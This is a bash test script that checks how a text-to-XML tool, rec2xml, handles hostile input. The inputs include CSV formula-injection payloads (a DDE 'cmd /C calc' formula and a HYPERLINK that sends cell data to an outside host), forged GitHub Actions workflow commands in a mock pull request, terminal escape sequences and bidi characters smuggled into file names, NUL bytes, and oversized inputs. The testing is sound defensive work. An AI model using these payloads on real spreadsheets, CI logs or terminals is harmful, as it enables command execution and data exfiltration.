#!/bin/bash
# SPDX-License-Identifier: MIT
# untrusted.sh - what reaches other programs from text someone else wrote
# (issue 11, items 7, 8, 11, 12, 13, 15).
#
#   - CSV cells a spreadsheet would evaluate (= + - @ tab CR) start with an
#     apostrophe; the import (CSV, and PO from csv2po) takes it off again:
#     a translation of every segment round-trips (item 7);
#   - the GitHub workflow's diff step, run in a real repository with a
#     hostile pull request (recipients "::stop-commands::x" and "::error
#     ...", file names with spaces, commas, colons and a newline), and its
#     log read by tests/gen/runner.py as the Actions runner reads it: no
#     forged command, our notice for every changed file, names intact
#     (item 8);
#   - NUL bytes in CSV and PO translations: an error at the line, exit 2
#     (item 11); C1 controls and DEL in XML inputs and translations are
#     refused like the text reader refuses them (item 13);
#   - bidi controls, zero-width characters and U+2028/2029 in recipients and
#     items: [invisible-character] at the line and column, an error with
#     --strict (item 12);
#   - every diagnostics format escapes what it prints: a file name holding a
#     newline, ESC, a C1 CSI or \xff forges no gcc line and sends no control
#     to the terminal, JSON and SARIF stay valid UTF-8, GitHub properties
#     stay whole; the quoted source line (on a terminal, under script(1))
#     holds no C1 control (item 13);
#   - translation CSV memory follows the entries, not the bytes: 20 MB of
#     newlines, 20 MB of commas (item 15).
#
# Every case fails on the code before issue 11.
set -u
. "$(dirname "$0")/lib.sh"
cd "$TOP"
SAMPLE=$TOP/input/cambodia-drug-detention-2013.txt
TIME=/usr/bin/time
[ -x "$TIME" ] || TIME=

# ---- 7: spreadsheet formulas -------------------------------------------------
echo "# CSV: formulas neutralised, and the import undoes it"
cat >"$WORK/formula.txt" <<'EOF'
To =cmd|' /C calc'!A0

  • =HYPERLINK("http://example.org/?"&A1,"Click")
  • +33 1 23 45 67 89 is the hotline.
  • -5 °C in the cells is inhuman.
  • @SUM(A1:A9)
  • '=already quoted
  • ''+twice
  • Plain - text, with = inside.[1]

[1] =1+1
EOF
"$REC2XML" -t csv -o "$WORK/formula.csv" "$WORK/formula.txt" 2>"$WORK/err" ||
    fail "formula export" "$(head -2 "$WORK/err")"
python3 - "$WORK/formula.csv" >"$WORK/cells" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
bad = [c for r in rows[1:] for c in (r[0], r[2], r[3]) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
print(len(rows) - 1, len(bad))
for c in bad:
    print("  live:", c)
PY
read -r nrows nbad <"$WORK/cells"
[ "$nbad" = 0 ] && [ "$nrows" -ge 9 ] && ok "CSV: no cell starts with = + - @ ($nrows rows)" ||
    fail "CSV: no cell starts with = + - @" "$(tail -n +2 "$WORK/cells")"
grep -q "\"'=HYPERLINK(" "$WORK/formula.csv" && grep -q "\"''=already quoted\"" "$WORK/formula.csv" &&
    grep -q "\"'''+twice\"" "$WORK/formula.csv" &&
    grep -q '"Plain - text, with = inside.\[1\]"' "$WORK/formula.csv" &&
    ok "CSV: one apostrophe before a formula, one more before apostrophes; other cells as they were" ||
    fail "CSV: apostrophes" "$(cat "$WORK/formula.csv")"
# the translator leaves every cell as exported: the import must find every
# segment again, and give back the same document
python3 tests/gen/fill_csv.py "$WORK/formula.csv" "$WORK/formula.fr.csv" "{source}"
"$REC2XML" "$WORK/formula.txt" >"$WORK/formula.xml" 2>/dev/null
for t in formula.fr.csv formula.fr.po; do
    [ "$t" = formula.fr.po ] && { csv2po "$WORK/formula.fr.csv" "$WORK/formula.fr.po" >/dev/null 2>&1 ||
        fail "csv2po reads the export"; }
    got=0
    "$REC2XML" -T "$WORK/$t" --target-lang en "$WORK/formula.txt" >"$WORK/back.xml" 2>"$WORK/err" || got=$?
    if [ "$got" -eq 0 ] && grep -q ': 9/9 segments translated, 0 stale, 0 missing' "$WORK/err" &&
        cmp -s "$WORK/formula.xml" "$WORK/back.xml"; then
        ok "import of the $t: the apostrophes taken off, 9/9 segments"
    else
        fail "import of the $t: the apostrophes taken off" "exit $got: $(grep segments "$WORK/err")" \
            "$(diff "$WORK/formula.xml" "$WORK/back.xml" | head -4)"
    fi
done

# ---- 8: the GitHub workflow -------------------------------------------------------
echo "# the workflow's diff step against a hostile pull request"
mkdir -p "$WORK/bin"
ln -sf "$REC2XML" "$WORK/bin/rec2xml"
origin=$WORK/origin.git
repo=$WORK/pr
git init -q --bare "$origin"
git init -q "$repo"
git -C "$repo" config user.email test@example.org
git -C "$repo" config user.name test
mkdir -p "$repo/input"
names=("plain.txt" "with space.txt" "comma,colon:name.txt" $'new\nline.txt')
for n in "${names[@]}"; do cp "$SAMPLE" "$repo/input/$n"; done
git -C "$repo" add -A
git -C "$repo" commit -qm base
git -C "$repo" push -q "file://$origin" HEAD:refs/heads/main 2>/dev/null
git -C "$repo" remote add origin "file://$origin"
for n in "${names[@]}"; do
    python3 - "$repo/input/$n" <<'PY'
import sys
p = sys.argv[1]
s = open(p, encoding="utf-8").read()
s += ("\nTo ::stop-commands::hijack\n\n  • One.\n\nTo ::error file=input/plain.txt,line=1::forged\n\n"
      "  • Two.\n\nTo ##[warning]forged too\n\n  • Three.\n")
s = s.replace("  • Release all persons", "  ::notice::an item\n  • Release all persons", 1)
open(p, "w", encoding="utf-8").write(s)
PY
done
git -C "$repo" commit -qam "hostile"
python3 - contrib/github/rec2xml.yml "$WORK/step.sh" "$WORK" <<'PY'
import sys, yaml
wf = yaml.safe_load(open(sys.argv[1]))
step = [s for s in wf["jobs"]["check"]["steps"] if s.get("name") == "What changed for translators"][0]
run = step["run"].replace("${{ github.base_ref }}", "$BASE_REF").replace("/tmp/", sys.argv[3] + "/")
open(sys.argv[2], "w").write(run)
PY
(cd "$repo" && BASE_REF=main REC2XML_PATHS='input/*.txt' PATH="$WORK/bin:$PATH" bash -e "$WORK/step.sh") >"$WORK/step.log" 2>&1
python3 tests/gen/runner.py "$WORK/step.log" >"$WORK/commands"
python3 - "$WORK/commands" "${names[@]}" >"$WORK/verdict" <<'PY'
import json, sys
cmds = [json.loads(l) for l in open(sys.argv[1])]
want = {"input/" + n for n in sys.argv[2:]}
notices = [c for c in cmds if c["command"] == "notice"]
got = {c["properties"].get("file") for c in notices}
forged = [c for c in cmds if c["command"] not in ("stop-commands", "resume-commands", "notice")
          or (c["command"] == "notice" and c["data"] != "recommendations changed: translators must be told")]
problems = []
if got != want or len(notices) != len(want):
    problems.append(f"notices for {sorted(x for x in got if x)}, expected {sorted(want)}")
if forged:
    problems.append("forged: " + "; ".join(json.dumps(c) for c in forged[:4]))
if problems:
    print("\n".join(problems))
PY
if [ ! -s "$WORK/verdict" ]; then ok "workflow: one notice per changed file, names intact, nothing forged"; else
    fail "workflow: one notice per changed file, names intact, nothing forged" "$(cat "$WORK/verdict")"; fi
grep -q '::stop-commands::hijack' "$WORK/step.log" && ok "workflow: the hostile lines were printed (and not obeyed)" ||
    fail "workflow: the hostile lines were printed" "$(head -5 "$WORK/step.log")"

# ---- 11: NUL bytes in translations --------------------------------------------------
echo "# NUL bytes, C1 controls and DEL in translations and XML"
"$REC2XML" -t csv -o "$WORK/s.csv" "$SAMPLE"
python3 tests/gen/fill_csv.py "$WORK/s.csv" "$WORK/s.fr.csv"
python3 - "$WORK/s.fr.csv" "$WORK/nul.csv" <<'PY'
import sys
b = open(sys.argv[1], "rb").read().split(b"\r\n")
b[3] = b[3].replace(b',"FR ', b',"FR \x00cut ', 1)
open(sys.argv[2], "wb").write(b"\r\n".join(b))
PY
got=0
"$REC2XML" -T "$WORK/nul.csv" --target-lang fr "$SAMPLE" >/dev/null 2>"$WORK/err" || got=$?
[ "$got" -eq 2 ] && grep -q '^[^:]*nul.csv:4:[0-9]*: error: a NUL byte.*\[translation-syntax\]$' "$WORK/err" &&
    ok "NUL in a CSV target: an error at its line, exit 2" ||
    fail "NUL in a CSV target: an error at its line, exit 2" "exit $got: $(head -3 "$WORK/err")"
csv2po "$WORK/s.fr.csv" "$WORK/s.fr.po" >/dev/null 2>&1
python3 - "$WORK/s.fr.po" "$WORK/nul.po" <<'PY'
import sys
s = open(sys.argv[1], "rb").read()
i = s.index(b"\n#:")
open(sys.argv[2], "wb").write(s[:i] + b"\n# a comment\x00 with a NUL" + s[i:])
PY
line=$(grep -n -a 'a comment' "$WORK/nul.po" | cut -d: -f1)
got=0
"$REC2XML" -T "$WORK/nul.po" --target-lang fr "$SAMPLE" >/dev/null 2>"$WORK/err" || got=$?
[ "$got" -eq 2 ] && grep -q "^[^:]*nul.po:$line:12: error: a NUL byte.*\[translation-syntax\]\$" "$WORK/err" &&
    ok "NUL in a PO comment: an error at its line and column, exit 2" ||
    fail "NUL in a PO comment: an error at its line, exit 2" "exit $got: $(head -3 "$WORK/err")"
# C1 and DEL: in a CSV target, an XLIFF target, an XML input
python3 - "$WORK/s.fr.csv" "$WORK/c1.csv" <<'PY'
import sys
s = open(sys.argv[1], encoding="utf-8", newline="").read().split("\r\n")
s[2] = s[2].replace(',"FR ', ',"FR \u009b31m', 1)
open(sys.argv[2], "w", encoding="utf-8", newline="").write("\r\n".join(s))
PY
got=0
"$REC2XML" -T "$WORK/c1.csv" --target-lang fr "$SAMPLE" >/dev/null 2>"$WORK/err" || got=$?
[ "$got" -eq 2 ] && grep -q 'c1.csv:3: error: .*control characters.*\[translation-syntax\]$' "$WORK/err" &&
    ok "C1 CSI in a CSV target: refused, exit 2" || fail "C1 CSI in a CSV target: refused" "exit $got: $(head -2 "$WORK/err")"
"$REC2XML" -t xliff --target-lang fr -o "$WORK/s.xlf" "$SAMPLE"
sed 's|<source>\(.*\)</source>|<source>\1</source><target state="translated">FR\&#x7F; \1</target>|' \
    "$WORK/s.xlf" >"$WORK/del.xlf"
got=0
"$REC2XML" -T "$WORK/del.xlf" "$SAMPLE" >/dev/null 2>"$WORK/err" || got=$?
[ "$got" -eq 2 ] && grep -q 'U+007F.*\[control-character\]$' "$WORK/err" &&
    ok "DEL in an XLIFF target: refused, exit 2" || fail "DEL in an XLIFF target: refused" "exit $got: $(head -2 "$WORK/err")"
"$REC2XML" "$SAMPLE" >"$WORK/s.xml"
for c in '&#x85;' '&#127;' $'\xc2\x9d'; do
    python3 -c 'import sys; s = open(sys.argv[1], "rb").read()
open(sys.argv[2], "wb").write(s.replace(b"Release all", b"Release" + sys.argv[3].encode("utf-8", "surrogateescape") + b" all", 1))' \
        "$WORK/s.xml" "$WORK/c1.xml" "$c"
    got=0
    "$REC2XML" --check -q "$WORK/c1.xml" 2>"$WORK/err" || got=$?
    [ "$got" -eq 1 ] && grep -q '\[control-character\]$' "$WORK/err" &&
        ok "XML input with $(printf '%q' "$c"): refused [control-character]" ||
        fail "XML input with $(printf '%q' "$c"): refused [control-character]" "exit $got: $(head -2 "$WORK/err")"
done

# ---- 12: invisible characters ----------------------------------------------------------
echo "# bidi controls, zero-width characters, separators"
bad=()
for cp in 200B 200C 200D 200E 200F 202A 202B 202C 202D 202E 2028 2029 2060 2066 2067 2068 2069 FEFF; do
    python3 - "$cp" "$WORK/inv.txt" <<'PY'
import sys
c = chr(int(sys.argv[1], 16))
open(sys.argv[2], "w", encoding="utf-8").write(
    f"To the Pol{c}ice\n\n  • Close the centers.\n\nTo the Police\n\n  • Free all{c} detainees.\n")
PY
    got=0
    "$REC2XML" --check -q "$WORK/inv.txt" 2>"$WORK/err" || got=$?
    n=$(grep -c "warning: .*U+$cp .*\[invisible-character\]$" "$WORK/err")
    { [ "$got" -eq 0 ] && [ "$n" -eq 2 ] && grep -q "inv.txt:1:11: warning" "$WORK/err" &&
        grep -q "inv.txt:7:13: warning" "$WORK/err"; } || bad+=("U+$cp: exit $got, $n warnings: $(head -1 "$WORK/err" | cut -c1-100)")
    got=0
    "$REC2XML" --check -q --strict "$WORK/inv.txt" 2>/dev/null || got=$?
    [ "$got" -eq 1 ] || bad+=("U+$cp --strict: exit $got")
done
[ ${#bad[@]} -eq 0 ] && ok "each of 18 invisible characters: a warning at line and column, an error with --strict" ||
    fail "invisible characters" "${bad[@]}"
sed 's|>Government of Cambodia|>Government \&#x202E;of Cambodia|' "$WORK/s.xml" >"$WORK/bidi.xml"
got=0
"$REC2XML" --check -q "$WORK/bidi.xml" 2>"$WORK/err" || got=$?
[ "$got" -eq 0 ] && grep -q 'bidi.xml:[0-9]*: warning: .*U+202E.*\[invisible-character\]$' "$WORK/err" &&
    ok "an XML input: the warning at the element's line" || fail "an XML input: the warning" "exit $got: $(head -2 "$WORK/err")"

# ---- 13: diagnostics formats ---------------------------------------------------------------
echo "# every diagnostics format escapes what it prints"
H=$WORK/names
mkdir -p "$H"
# an undefined footnote in each: one diagnostic per file
for n in $'nl\nforged.txt:1:1: error: forged [xml-syntax]' $'esc\e[31mred' $'csi\xc2\x9b31m' $'bad\xff' 'a,b:c'; do
    printf 'To the Government\n\n  \xe2\x80\xa2 Close them.[9]\n' >"$H/$n.txt"
done
"$REC2XML" --check -q "$H"/*.txt 2>"$WORK/gcc" >/dev/null
# (each followed by the kind's help line, which holds no name)
lines=$(grep -vc '^  help: ' "$WORK/gcc")
[ "$lines" -eq 5 ] && [ "$(grep -c '^  help: ' "$WORK/gcc")" -eq 5 ] &&
    ok "gcc: one line per diagnostic, none forged by a newline" ||
    fail "gcc: one line per diagnostic" "$lines lines: $(head -8 "$WORK/gcc")"
if LC_ALL=C grep -q -P '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]' "$WORK/gcc"; then
    fail "gcc: no control character reaches the terminal" "$(od -c "$WORK/gcc" | grep -m3 '033\|302')"
else ok "gcc: no control character reaches the terminal"; fi
grep -qF 'nl\nforged.txt' "$WORK/gcc" && grep -qF 'esc\x1B[31mred' "$WORK/gcc" && grep -qF 'bad\xFF' "$WORK/gcc" &&
    ok "gcc: the names shown escaped (\\n, \\x1B, \\xFF)" || fail "gcc: the names shown escaped" "$(cat "$WORK/gcc")"
"$REC2XML" --check -q --diagnostics-format=json "$H"/*.txt 2>"$WORK/json" >/dev/null
"$REC2XML" --check -q --diagnostics-format=sarif "$H"/*.txt 2>"$WORK/sarif" >/dev/null
"$REC2XML" --check -q --diagnostics-format=github "$H"/*.txt 2>"$WORK/github" >/dev/null
if python3 - "$WORK/json" "$WORK/sarif" <<'PY'
import json, sys
lines = open(sys.argv[1], "rb").read().decode("utf-8").splitlines()   # strict UTF-8
assert len(lines) == 5, lines
files = {json.loads(l)["file"].rsplit("/", 1)[-1] for l in lines}
assert any(f.startswith("bad") and f.endswith("\ufffd.txt") for f in files), files
assert any(f.startswith("nl\nforged") for f in files), files
d = json.loads(open(sys.argv[2], "rb").read().decode("utf-8"))
assert len(d["runs"][0]["results"]) == 5
PY
then ok "json, sarif: valid UTF-8 (\\xff as U+FFFD), every diagnostic"; else
    fail "json, sarif: valid UTF-8" "$(head -c 300 "$WORK/json")"; fi
python3 tests/gen/runner.py "$WORK/github" >"$WORK/gh.commands"
if python3 - "$WORK/gh.commands" "$WORK/github" <<'PY'
import json, sys
cmds = [json.loads(l) for l in open(sys.argv[1])]
assert len(cmds) == 5 and all(c["command"] == "error" for c in cmds), cmds
files = {c["properties"]["file"].rsplit("/", 1)[-1] for c in cmds}
assert "a,b:c.txt" in files and "nl\nforged.txt:1:1: error: forged [xml-syntax].txt" in files, files
raw = open(sys.argv[2], "rb").read()
raw.decode("utf-8")
assert b"\x1b" not in raw and b"\xc2\x9b" not in raw
PY
then ok "github: properties whole, no control character, valid UTF-8"; else
    fail "github: properties whole" "$(head -5 "$WORK/gh.commands")"; fi
# the caret quote on a terminal: a C1 CSI and a bidi override in the line
printf 'To the Government\n\n  \xe2\x80\xa2 Close \xc2\x9b31mthem \xe2\x80\xaeall.\n' >"$WORK/quote.txt"
if command -v script >/dev/null; then
    # (no colours: their escape sequences are rec2xml's own, not the text's)
    script -qec "'$REC2XML' --check -q --color=never '$WORK/quote.txt'" /dev/null >"$WORK/tty" 2>&1 || true
    if LC_ALL=C grep -q -P '\xc2[\x80-\x9f]|\xe2\x80\xae|\x1b' "$WORK/tty"; then
        fail "the quoted line holds no control or bidi character" "$(od -c "$WORK/tty" | head -5)"
    elif grep -q '^  .*Close ?31mthem ?all' "$WORK/tty" && grep -q '^  *\^' "$WORK/tty"; then
        ok "the quoted line holds no control or bidi character (a ? in their column)"
    else
        fail "the quoted line: shown" "$(cat -v "$WORK/tty")"
    fi
    # coloured, the only escape sequences are rec2xml's own colours
    script -qec "'$REC2XML' --check -q --color=always '$WORK/quote.txt'" /dev/null >"$WORK/tty" 2>&1 || true
    sed 's/\x1b\[[0-9;]*m//g' "$WORK/tty" >"$WORK/tty.plain"
    if ! grep -q $'\x1b\\[' "$WORK/tty"; then
        fail "coloured: the colours are there"
    elif LC_ALL=C grep -q -P '\xc2[\x80-\x9f]|\xe2\x80\xae|\x1b' "$WORK/tty.plain"; then
        fail "coloured: no escape sequence but rec2xml's colours" "$(od -c "$WORK/tty.plain" | head -5)"
    else
        ok "coloured: no escape sequence but rec2xml's colours"
    fi
fi

# ---- 15: translation CSV memory ----------------------------------------------------------
echo "# translation CSV memory"
if [ -n "$TIME" ]; then
    for shape in newlines commas; do
        python3 - "$shape" "$WORK/big.csv" <<'PY'
import sys
with open(sys.argv[2], "w") as f:
    f.write('"location","kind","recipient","source","target"\r\n')
    f.write(("\n" if sys.argv[1] == "newlines" else ",") * 20_000_000)
PY
        got=0
        "$TIME" -o "$WORK/time" -f '%M' "$REC2XML" -T "$WORK/big.csv" --target-lang fr "$SAMPLE" \
            >/dev/null 2>"$WORK/err" || got=$?
        kb=$(tail -1 "$WORK/time")
        [[ $kb =~ ^[0-9]+$ ]] || kb=999999999
        echo "  20 MB of $shape: exit $got, peak $((kb / 1024)) MB"
        # the file is read whole (20 MB); the rest must not depend on its rows
        [ "$kb" -le 81920 ] && ok "20 MB of $shape in a translation CSV: peak $((kb / 1024)) MB" ||
            fail "20 MB of $shape in a translation CSV: bounded memory" "peak $((kb / 1024)) MB"
    done
fi
summary
